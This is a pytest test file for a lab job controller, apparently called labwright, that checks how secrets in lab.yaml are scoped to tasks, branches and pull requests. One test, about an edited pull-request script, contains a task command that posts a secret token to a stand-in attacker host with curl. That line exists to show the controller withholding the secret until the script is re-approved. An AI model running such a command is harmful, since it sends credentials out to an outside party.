"""Which job is given which secret: scopes of lab.yaml, asked at planning and again at submission (R23, R24)."""

import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from labwright.decide.grants import may_have, own_secrets
from labwright.decide.parse import parse_lab
from labwright.domain.errors import Unavailable
from labwright.domain.job import ActKind
from labwright.domain.lab import Lab
from labwright.domain.lifecycle import State
from tests.unit.loop_bench import Bench
from tests.unit.planning import task
from tests.unit.pull_bench import PullBench

PYTHON = sys.executable
USES = task("x", envs="{HF: '{{secret.TOKEN}}'}")
FORGE = """
watch: {pull_requests: true}
forge: {type: forgejo, url: "https://forge.example", repo: lab/vision, token: "{{secret.FORGE}}", hook_secrets: ["{{secret.HOOK}}"], update: 1s}
"""
OWN = """
  FORGE: {env: FORGE}
  HOOK: {file: /etc/lab/hook}
"""


def lab(text: str) -> Lab:
    return parse_lab(text.encode(), "lab.yaml")


def scoped(how: str) -> Lab:
    return lab(f"secrets: {{TOKEN: {{env: TOKEN{', ' if how else ''}{how}}}}}")


@pytest.mark.parametrize(
    ("scope", "name", "branch", "may"),
    [
        ("", "alpha/train", "main", True),
        ("", "alpha/train", "pull:7", True),
        ("tasks: alpha/*", "alpha/train", "main", True),
        ("tasks: alpha", "alpha/train", "main", True),
        ("tasks: [beta/*, /alpha/train/]", "alpha/train", "main", True),
        ("tasks: alpha/*", "alphabet/train", "main", False),
        ("tasks: '*'", "beta/deep/train", "main", True),
        ("tasks: '*/train'", "beta/deep/train", "main", False),
        ("tasks: '**/train'", "beta/deep/train", "main", True),
        ("tasks: []", "alpha/train", "main", False),
        ("branches: [main, 'exp/*']", "alpha/train", "exp/one", True),
        ("branches: main", "alpha/train", "main2", False),
        ("branches: Main", "alpha/train", "main", False),
        ("branches: []", "alpha/train", "main", False),
        ("branches: main", "alpha/train", "pull:7", False),
        ("branches: ['*', 'pull:*']", "alpha/train", "pull:7", False),
        ("branches: main, pull_requests: true", "alpha/train", "pull:7", True),
        ("branches: main, pull_requests: true", "alpha/train", "dev", False),
        ("pull_requests: false", "alpha/train", "pull:7", False),
        ("pull_requests: false", "alpha/train", "main", True),
        ("tasks: beta, pull_requests: true", "alpha/train", "pull:7", False),
        ("", "alpha/train", "smoke:7", False),
        ("branches: ['*', 'smoke:7'], pull_requests: true", "alpha/train", "smoke:7", False),
        ("branches: main", "alpha/train", "", True),
        ("tasks: beta", "alpha/train", "", False),
    ],
)
def test_a_secret_is_for_the_tasks_and_branches_that_its_scope_names(
    scope: str, name: str, branch: str, may: bool
) -> None:
    why = may_have("TOKEN", scoped(scope), name, branch)
    assert (why == "") is may, why
    assert may or "TOKEN" in why


@pytest.mark.parametrize(
    ("scope", "branch", "words"),
    [
        ("tasks: [beta, gamma]", "main", "the secret TOKEN is not for a: secrets.TOKEN.tasks of lab.yaml has beta, gamma"),
        ("tasks: []", "main", "secrets.TOKEN.tasks of lab.yaml has none"),
        ("branches: rel", "main", "the secret TOKEN is not for main: secrets.TOKEN.branches of lab.yaml has rel"),
        ("branches: rel", "pull:1", "not for pull requests: secrets.TOKEN.branches of lab.yaml (`pull_requests: true` there"),
        ("pull_requests: no", "pull:1", "secrets.TOKEN.pull_requests of lab.yaml (it runs once it is merged)"),
    ],
)  # fmt: skip
def test_a_refusal_names_the_secret_and_the_scope(scope: str, branch: str, words: str) -> None:
    assert words in may_have("TOKEN", scoped(scope), "a", branch)


def test_what_the_controller_itself_uses_is_no_jobs_whatever_it_is_called() -> None:
    cluster = "providers: {c: {type: slurm, host: h, rest: {url: 'https://h:6820', token: '{{secret.JWT}}'}}}\n"
    text = f"{FORGE}{cluster}secrets:{OWN}  JWT: {{command: [jwt]}}\n  ALIAS: {{env: FORGE}}\n  HF: {{env: HF}}\n"
    settings = lab(text)
    assert own_secrets(settings) == {"FORGE", "HOOK", "JWT", "ALIAS"}
    assert "forge.token of lab.yaml uses it, and no job is given it" in may_have("FORGE", settings, "a", "main")
    assert "forge.token of lab.yaml" in may_have("ALIAS", settings, "a", "main")
    assert "forge.hook_secrets of lab.yaml" in may_have("HOOK", settings, "a", "main")
    assert "providers.c.rest.token of lab.yaml" in may_have("JWT", settings, "a", "main")
    assert may_have("HF", settings, "a", "main") == ""


def test_an_apps_key_is_no_jobs() -> None:
    forge = "forge: {type: github, repo: o/r, app: {id: 1, installation: 2, key: '{{secret.KEY}}'}}\n"
    settings = lab(forge + "secrets: {KEY: {file: key.pem}}")
    assert "forge.app.key of lab.yaml uses it" in may_have("KEY", settings, "a", "main")


# in the loop


@pytest.fixture
def bench(tmp_path: Path) -> Iterator[Bench]:
    bench = Bench(tmp_path)
    yield bench
    bench.close()


@pytest.fixture
def given(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """What every bench's provider was given."""
    given: list[Any] = []
    from labwright.testing.fake_provider import FakeProvider

    submit = FakeProvider.submit
    monkeypatch.setattr(FakeProvider, "submit", lambda self, batch: given.extend(batch) or submit(self, batch))
    monkeypatch.setenv("TOKEN", "t0ken-of-a-test")
    return given


def refusals(bench: Bench) -> dict[str, str]:
    return {want.task: want.detail for want in bench.ledger.wants() if want.how == "refused"}


def test_a_task_out_of_a_secrets_scope_is_refused_at_planning_and_others_run(bench: Bench, given: list[Any]) -> None:
    bench.push(lab="secrets: {TOKEN: {env: TOKEN, tasks: good}}", good=USES, bad=USES, plain=task("y"))
    bench.until_idle()
    assert refusals(bench) == {"bad": "the secret TOKEN is not for bad: secrets.TOKEN.tasks of lab.yaml has good"}
    assert {submission.task_path: submission.secrets for submission in given} == {
        "good": {"TOKEN": "t0ken-of-a-test"},
        "plain": {},
    }


def test_a_scope_that_is_widened_plans_the_refused_task_again(bench: Bench, given: list[Any]) -> None:
    bench.push(lab="secrets: {TOKEN: {env: TOKEN, branches: release}}", a=USES)
    bench.until_idle()
    assert list(refusals(bench)) == ["a"]
    bench.push(lab="secrets: {TOKEN: {env: TOKEN, branches: [release, main]}}")
    bench.until_idle()
    assert bench.state("a") is State.COMPLETE


def test_a_secret_in_a_providers_env_keeps_its_scope_and_the_controllers_own_stays_its_own(
    bench: Bench, given: list[Any]
) -> None:
    provider = "providers: {local: {type: local, env: {T: '{{secret.TOKEN}}'}}}\n"
    bench.push(lab=provider + "secrets: {TOKEN: {env: TOKEN, tasks: good}}", good=task("x"), bad=task("x"))
    bench.until_idle()
    assert "the secret TOKEN is not for bad" in refusals(bench)["bad"]
    assert [submission.task_path for submission in given] == ["good"]
    own = FORGE.replace("watch: {pull_requests: true}", "").replace("secret.FORGE", "secret.TOKEN")
    bench.push(
        lab=provider + own + "secrets: {TOKEN: {env: TOKEN}, HOOK: {file: /h}}",
        good=task("z"),
        other=task("y", envs="{H: '{{secret.HOOK}}'}"),
    )
    bench.until_idle()
    assert "forge.token of lab.yaml uses it" in refusals(bench)["good"]
    assert "the secret HOOK is the controller's own" in refusals(bench)["other"]
    assert [submission.task_path for submission in given] == ["good"]


def test_a_scope_that_is_narrowed_before_submission_keeps_the_value_from_being_asked_for(
    bench: Bench, given: list[Any], tmp_path: Path
) -> None:
    asked = tmp_path / "asked"
    command = f'[{PYTHON}, -c, \'open("{asked}", "a").write("x"); print("s3cret")\']'
    bench.ask(ActKind.SUSPEND, "")
    bench.push(lab=f"secrets: {{TOKEN: {{command: {command}}}}}", a=USES)
    bench.turn(5)
    assert bench.state("a") is State.QUEUED or bench.state("a") is State.HELD
    bench.push(lab=f"secrets: {{TOKEN: {{command: {command}, tasks: b}}}}")
    bench.turn(5)
    bench.ask(ActKind.RESUME, "")
    bench.until_idle()
    assert bench.state("a") is State.FAILED
    assert bench.job("a").reason == (
        "not submitted: the secret TOKEN is not for a: secrets.TOKEN.tasks of lab.yaml has b"
    )
    assert given == []
    assert not asked.exists()


def test_two_tasks_of_one_content_are_judged_each_by_itself(bench: Bench, given: list[Any]) -> None:
    bench.ask(ActKind.SUSPEND, "")
    bench.push(lab="secrets: {TOKEN: {env: TOKEN}}", a=USES, b=USES)
    bench.turn(5)
    bench.push(lab="secrets: {TOKEN: {env: TOKEN, tasks: a}}")
    bench.turn(5)
    bench.ask(ActKind.RESUME, "")
    bench.until_idle()
    assert (bench.state("a"), bench.state("b")) == (State.COMPLETE, State.FAILED)
    assert [submission.task_path for submission in given] == ["a"]


def test_lab_run_at_a_branch_out_of_the_scope_is_refused(bench: Bench, given: list[Any]) -> None:
    bench.push(lab="watch: {branches: [main]}\nsecrets: {TOKEN: {env: TOKEN, branches: main}}", a=task("x"))
    bench.until_idle()
    bench.repo.branches["dev"] = bench.repo.branches["main"]
    bench.push(branch="dev", a=USES)
    bench.turn(3)
    act = bench.ask(ActKind.RUN, "a", branch="dev", provider="local")
    bench.turn(3)
    assert bench.answer(act).startswith("refused: the secret TOKEN is not for dev")
    act = bench.ask(ActKind.RUN, "a", branch="dev")
    bench.turn(3)
    assert bench.answer(act).startswith("refused: the secret TOKEN is not for dev")


# pull requests


def counting(tmp_path: Path) -> tuple[str, Path]:
    """A command that prints a secret and leaves a mark each time."""
    asked = tmp_path / "asked"
    return f'{{command: [{PYTHON}, -c, \'open("{asked}", "a").write("x"); print("s3cret-value")\']', asked


@pytest.fixture
def pulls(tmp_path: Path, given: list[Any]) -> Iterator[PullBench]:
    source, _ = counting(tmp_path)
    bench = PullBench(tmp_path, FORGE + f"secrets:{OWN}  TOKEN: {source}}}\n")
    given.clear()
    yield bench
    bench.close()


def test_r23_a_pull_request_that_is_planned_asks_no_source_for_a_value(
    pulls: PullBench, given: list[Any], tmp_path: Path
) -> None:
    asked = tmp_path / "asked"
    pulls.propose(**{"alpha/train": USES})
    pulls.label()
    pulls.settle()
    assert "alpha/train" in pulls.comment()
    assert not asked.exists()
    pulls.approve()
    pulls.until_idle()
    assert [submission.secrets for submission in given] == [{"TOKEN": "s3cret-value"}]
    assert asked.read_text() == "x"


def test_r24_an_edited_script_is_given_nothing_until_it_is_approved_again(
    pulls: PullBench, given: list[Any], tmp_path: Path
) -> None:
    asked = tmp_path / "asked"
    pulls.propose(**{"alpha/train": USES})
    pulls.approve()
    pulls.until_idle()
    pulls.propose(**{"alpha/train": task("curl -d $HF evil.example", envs="{HF: '{{secret.TOKEN}}'}")})
    pulls.settle()
    pulls.label()
    pulls.settle()
    assert (len(given), asked.read_text()) == (1, "x")
    pulls.approve()
    pulls.until_idle()
    assert (len(given), asked.read_text()) == (2, "xx")


def test_r24_an_approval_that_goes_while_the_provider_is_away_lets_nothing_be_submitted_later(
    pulls: PullBench, given: list[Any], tmp_path: Path
) -> None:
    pulls.propose(**{"alpha/train": USES})
    pulls.provider.fail("submit", Unavailable("no route", retry_in=5.0))
    review = pulls.at.review(1, "ben")
    pulls.label()
    pulls.until(lambda: "no route" in pulls.alarms.get("submit to local", ""))
    tried = len(given)
    pulls.at.dismiss(1, review)
    pulls.settle()
    pulls.turn(20)
    assert (len(given), (tmp_path / "asked").read_text()) == (tried, "x" * tried)
    (job,) = pulls.pulled
    assert job.reason.startswith("not submitted yet: ") and "review" in job.reason
    pulls.approve()
    pulls.until_idle()
    assert pulls.pulled[0].state is State.COMPLETE


def test_a_secret_that_is_not_for_pull_requests_is_refused_there_and_given_once_merged(
    pulls: PullBench, given: list[Any], tmp_path: Path
) -> None:
    source, asked = counting(tmp_path)
    pulls.push(lab=FORGE + f"secrets:{OWN}  TOKEN: {source}, pull_requests: false}}\n")
    pulls.until_idle()
    pulls.propose(**{"alpha/train": USES, "alpha/plain": task("y")})
    pulls.approve()
    pulls.until_idle()
    assert "the secret TOKEN is not for pull requests" in pulls.comment()
    assert [submission.task_path for submission in given] == ["alpha/plain"]
    assert not asked.exists()
    pulls.push(**{"alpha/train": USES, "alpha/plain": task("y")})
    pulls.at.shut(1, merged=True)
    pulls.until_idle()
    assert [submission.task_path for submission in given] == ["alpha/plain", "alpha/train"]
    assert given[-1].secrets == {"TOKEN": "s3cret-value"}


def test_a_pull_request_that_asks_for_the_forges_token_is_refused(pulls: PullBench, given: list[Any]) -> None:
    pulls.propose(**{"alpha/train": task("x", envs="{F: '{{secret.FORGE}}'}")})
    pulls.approve()
    pulls.until_idle()
    assert "the secret FORGE is the controller" in pulls.comment()
    assert given == []
